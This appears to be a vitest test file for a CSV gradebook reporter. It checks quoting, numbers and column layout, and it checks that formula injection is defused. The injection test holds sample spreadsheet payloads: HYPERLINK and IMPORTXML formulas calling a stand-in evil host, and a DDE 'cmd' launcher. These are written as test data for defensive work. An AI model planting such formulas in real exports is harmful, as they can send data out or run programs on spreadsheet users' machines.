import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import type { CheckResult, RunResult } from '../core/model.js';
import { loadClassSmall, render } from '../fixtures/results/support.js';
import { checkCatalogue } from './catalogue.js';
import { CREDIT_COLUMN, ERRORS_COLUMN, FIXED_COLUMNS, csvCell, renderCsv } from './csv.js';

/** Rows as a real CSV parser reads them (strict: a row with another column count throws). */
const parseCsv = (text: string): string[][] => parse(text, { relax_column_count: false }) as string[][];

async function table(run: RunResult): Promise<{ header: string[]; rows: Record<string, string>[]; text: string }> {
  const text = await render('csv', run);
  const [header, ...body] = parseCsv(text);
  return { header, rows: body.map((cells) => Object.fromEntries(header.map((h, i) => [h, cells[i]]))), text };
}

describe('csv reporter', () => {
  it('matches the golden gradebook', async () => {
    await expect(await render('csv', loadClassSmall())).toMatchFileSnapshot('./__golden__/class-small.csv');
  });

  it('round-trips every score, percent and check points through a CSV parser', async () => {
    const run = loadClassSmall();
    const { header, rows, text } = await table(run);
    expect(text.endsWith('\r\n')).toBe(true);
    expect(header).toEqual([...FIXED_COLUMNS, ...run.students[0].checks.map((c) => c.id), ERRORS_COLUMN]);
    expect(rows).toHaveLength(run.students.length);
    run.students.forEach((s, i) => {
      const row = rows[i];
      expect(row.user).toBe(s.user);
      expect(row.status).toBe(s.status);
      expect(Number(row.score)).toBe(s.score);
      expect(Number(row.maxScore)).toBe(s.maxScore);
      expect(Number(row.percent)).toBe(s.percent);
      expect(Number(row.bonus)).toBe(s.bonus);
      for (const c of s.checks) {
        // A number for what was decided; empty where the grader could not find out or it does not apply.
        expect(row[c.id], `${s.user} ${c.id}`).toBe(c.status === 'error' || c.status === 'skipped' ? '' : String(c.points));
      }
      const points = s.checks.filter((c) => !c.bonus).reduce((sum, c) => sum + Number(row[c.id] || 0), 0);
      expect(points, `${s.user}: required check columns add up to the score`).toBe(s.score);
    });
  });

  it('adds a credit column after passed when any student was scored with credit over time, empty for the others', async () => {
    const run = loadClassSmall();
    run.students[0].credit = 'earned';
    const { header, rows } = await table(run);
    expect(header).toEqual([...FIXED_COLUMNS, CREDIT_COLUMN, ...run.students[0].checks.map((c) => c.id), ERRORS_COLUMN]);
    expect(rows.map((r) => r[CREDIT_COLUMN])).toEqual(['earned', ...run.students.slice(1).map(() => '')]);
    expect(rows[0].user).toBe(run.students[0].user);
  });

  it('keeps an incomplete student apart: status, no final pass, the checks in error named', async () => {
    const { rows } = await table(loadClassSmall());
    const incomplete = rows.find((r) => r.user === 'labuser09');
    expect(incomplete).toMatchObject({ status: 'incomplete', passed: '', [ERRORS_COLUMN]: 'ex1.vm.reachable ex6.app.e2e' });
    expect(rows.find((r) => r.user === 'labuser07')).toMatchObject({ status: 'graded', passed: 'true', [ERRORS_COLUMN]: '' });
    expect(rows.find((r) => r.user === 'labuser08')?.passed).toBe('false');
  });

  it('draws no verdict for a partial run (--only): passed says partial for every student, graded or not', async () => {
    const run = loadClassSmall();
    const text = await render('csv', run, { info: { only: ['ex2', 'ex4'] } });
    const [header, ...body] = parseCsv(text);
    const passed = body.map((cells) => cells[header.indexOf('passed')]);
    expect(passed).toEqual(run.students.map(() => 'partial'));
    // The points of the selection stay, a number in each cell.
    expect(body.map((cells) => Number(cells[header.indexOf('score')]))).toEqual(run.students.map((s) => s.score));
  });

  it('without run information (merged results that carry no pass mark) keeps each verdict as the results hold it', () => {
    const run = loadClassSmall();
    const [header, ...body] = parseCsv(renderCsv(run));
    expect(body.map((cells) => cells[header.indexOf('passed')])).toEqual(run.students.map((s) => (s.status === 'graded' ? String(s.passed) : '')));
  });

  it('neutralises formulas in user names and check ids, and quotes separators (RFC 4180)', async () => {
    const run = loadClassSmall();
    const hostile = ['=HYPERLINK("http://evil.example","x")', '+1+1', '-2+3', '@SUM(A1:A2)', '\t=1', ' =cmd|/C calc!A0'];
    run.students = hostile.map((user, i) => ({ ...structuredClone(run.students[i % run.students.length]), user }));
    const check: CheckResult = run.students[0].checks[5];
    check.id = '=ex2.evil';
    check.status = 'error';
    check.message = '=IMPORTXML("http://evil.example")';
    const { header, rows, text } = await table(run);
    // A tab is a space on one line; the formula behind it is defused all the same.
    expect(rows.map((r) => r.user)).toEqual(hostile.map((u) => `'${u.replace('\t', ' ')}`));
    expect(header).toContain("'=ex2.evil");
    expect(rows[0][ERRORS_COLUMN]).toBe("'=ex2.evil");
    expect(text).not.toContain('IMPORTXML'); // messages are not exported at all
    for (const cell of [...header, ...rows.flatMap((r) => Object.values(r))]) expect(cell).not.toMatch(/^\s*[=+\-@]|^[\t\r]/);
  });

  it("never starts a cell with a tab or a carriage return (OWASP's other two starts)", () => {
    expect(['\tcmd', '\rcmd', '\r\n\tcmd', '\t'].map(csvCell)).toEqual([' cmd', 'cmd', ' cmd', ' ']);
  });

  it('defuses only a cell that starts with a formula character: a date or a hyphenated name stays as it is', () => {
    expect(['2024-01-01', 'a-b', 'lab+user@example', '  -1', '@x'].map(csvCell)).toEqual(['2024-01-01', 'a-b', 'lab+user@example', "'  -1", "'@x"]);
  });

  it('quotes commas and quotes, and puts a newline on the line, so the row survives', () => {
    const text = ['a,"b"\nc', 'plain'].map(csvCell).join(',') + '\r\n';
    expect(text).toBe('"a,""b"" c",plain\r\n');
    expect(parseCsv(text)).toEqual([['a,"b" c', 'plain']]);
  });

  it('writes numbers as numbers, a negative one too, and nothing for NaN', () => {
    expect([csvCell(-1), csvCell(2.5), csvCell(1 / 3), csvCell(Number.NaN), csvCell(null), csvCell(undefined), csvCell(false)]).toEqual(['-1', '2.5', '0.33', '', '', '', 'false']);
  });

  it('takes the union of the checks in catalogue order when students differ', () => {
    const run = loadClassSmall();
    const [a, b] = run.students;
    a.checks = a.checks.filter((c) => c.id !== 'ex2.compose.ports');
    b.checks = b.checks.filter((c) => c.id !== 'ex7.tiller');
    expect(checkCatalogue(run).map((c) => c.id)).toEqual(run.students[2].checks.map((c) => c.id));
  });

  it('keeps a text cell on one line, without control or bidirectional characters', async () => {
    expect(csvCell('lab\nuser\u202E07\u0007')).toBe('lab user07');
    const run = loadClassSmall();
    run.students[0].user = '=evil\r\n"user"\u2066';
    const { rows, text } = await table(run);
    expect(text.split('\r\n')).toHaveLength(run.students.length + 2);
    expect(rows[0].user).toBe(`'=evil "user"`);
  });
});
